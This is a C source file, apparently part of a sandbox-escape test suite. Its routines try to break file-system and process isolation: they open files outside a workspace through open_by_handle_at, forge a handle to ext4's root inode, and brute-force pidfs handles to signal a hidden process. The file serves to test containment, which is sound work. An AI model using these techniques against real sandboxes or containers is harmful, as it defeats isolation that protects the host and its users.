/* File handles: an object by its number, past every path. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

struct handle {
    struct file_handle head;
    unsigned char room[128];
};

static bool handle_of(const char *path, struct handle *handle)
{
    int mount;
    *handle = (struct handle){ .head = { .handle_bytes = sizeof handle->room } };
    return name_to_handle_at(AT_FDCWD, path, &handle->head, &mount, 0) == 0;
}

static int open_handle(const struct facts *facts, int mount, struct handle *handle)
{
    return mark_descriptor(facts, open_by_handle_at(mount, &handle->head, O_WRONLY | O_CLOEXEC));
}

static int by_handle(const struct facts *facts)
{
    struct handle handle;
    if (!handle_of("file", &handle))
        return done_or_absent(-1, "file handles");
    return open_handle(facts, open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), &handle);
}

static int by_handle_of_directory(const struct facts *facts)
{
    struct handle handle;
    if (!handle_of(".", &handle))
        return done_or_absent(-1, "file handles");
    int directory =
        open_by_handle_at(open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), &handle.head, O_RDONLY | O_CLOEXEC);
    return mark_descriptor(facts, directory < 0 ? -1 : openat(directory, "file", O_WRONLY | O_CLOEXEC));
}

/* Opened from the workspace's mount, which may be writable, although the object lies outside of it. */
static int by_handle_from_workspace(const struct facts *facts)
{
    struct handle handle;
    if (!handle_of("file", &handle))
        return done_or_absent(-1, "file handles");
    return open_handle(facts, open(facts->spring, O_RDONLY | O_DIRECTORY | O_CLOEXEC), &handle);
}

static int by_handle_privileged(const struct facts *facts)
{
    struct handle handle;
    if (!handle_of("file", &handle))
        return done_or_absent(-1, "file handles");
    if (!own_namespaces(0x00020000 /* CLONE_NEWNS */))
        return REFUSED;
    return open_handle(facts, open(facts->spring, O_RDONLY | O_DIRECTORY | O_CLOEXEC), &handle);
}

/* The root directory of ext4 is inode 2: nobody needs to be asked for that handle. */
static int guessed_root(const struct facts *facts)
{
    struct {
        struct file_handle head;
        uint32_t inode, generation;
    } guess = { .head = { .handle_bytes = 8, .handle_type = 1 }, .inode = 2 };
    int root =
        open_by_handle_at(open(facts->spring, O_RDONLY | O_DIRECTORY | O_CLOEXEC), &guess.head, O_RDONLY | O_CLOEXEC);
    return mark_descriptor(facts, root < 0
                                      ? -1
                                      : openat(root, facts->own[0] == '/' ? text("%s/file", facts->own + 1) : "file",
                                               O_WRONLY | O_CLOEXEC));
}

/* A process by its handle (pidfs): a pidfd for one that this namespace does not show. */
static int process_by_handle(const struct facts *facts)
{
    struct handle handle;
    int pidfd = (int)syscall(SYS_pidfd_open, getpid(), 0);
    int mount;
    handle = (struct handle){ .head = { .handle_bytes = sizeof handle.room } };
    if (pidfd < 0 || name_to_handle_at(pidfd, "", &handle.head, &mount, AT_EMPTY_PATH) != 0)
        return done_or_absent(-1, "pidfs");
    /* The handle is the inode number, and the numbers of neighbours are near. */
    uint64_t number;
    memcpy(&number, handle.head.f_handle, sizeof number);
    for (uint64_t back = 1; back < 100000 && back < number; back++) {
        uint64_t other = number - back;
        memcpy(handle.head.f_handle, &other, sizeof other);
        int found = open_by_handle_at(-10002 /* FD_PIDFS_ROOT */, &handle.head, 0);
        if (found < 0)
            continue;
        char line[64] = "";
        int info = open(text("/proc/self/fdinfo/%d", found), O_RDONLY | O_CLOEXEC);
        char content[512];
        ssize_t n = read(info, content, sizeof content - 1);
        content[n > 0 ? n : 0] = '\0';
        const char *pid = strstr(content, "Pid:");
        snprintf(line, sizeof line, "Pid:\t%d\n", (int)facts->victim);
        if (pid != NULL && strncmp(pid, line, strlen(line)) == 0)
            return done_unless_negative(syscall(SYS_pidfd_send_signal, found, SIGUSR1, NULL, 0));
        close(found);
        close(info);
    }
    errno = ESRCH;
    return REFUSED;
}

static const struct attack list[] = {
    { "handle-file", "own", "open_by_handle_at(2)", by_handle, NULL, ROOT },
    { "handle-directory", "own", "a directory by its handle, then a file below", by_handle_of_directory, NULL, ROOT },
    { "handle-workspace", "own", "the handle opened through the workspace's mount", by_handle_from_workspace, NULL,
      ROOT },
    { "handle-userns", "own", "the same with the capabilities of a user namespace", by_handle_privileged, NULL,
      UNPROVEN },
    { "handle-guessed", "own", "the handle of the disk's root directory, guessed", guessed_root, NULL, ROOT },
    { "handle-process", "victim:signals", "a process outside by its handle", process_by_handle, NULL, 0 },
};

FAMILY(handles_family, "handles", list);
